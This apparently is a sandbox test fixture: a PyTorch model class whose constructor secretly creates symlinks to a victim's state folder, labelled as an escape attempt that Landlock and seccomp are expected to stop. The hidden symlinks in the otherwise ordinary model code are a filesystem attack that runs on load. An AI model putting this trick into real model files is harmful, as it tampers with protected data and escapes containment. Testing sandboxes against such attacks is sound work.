# what: leaves links to the state folder where the clean-up will go
# kind: escape
# ends: sandbox or lift_failed
# goal: lifted
# stopped by: landlock seccomp

import torch
from torch import nn


class Net(nn.Module):
    def __init__(self):
        super().__init__()
        torch.os.symlink(VICTIM["state"], "link")
        torch.os.mkdir("d")
        torch.os.symlink(VICTIM["state"], "d/link")
        self.f = nn.Linear(192, 10)

    def forward(self, x):
        return self.f(x.flatten(1))
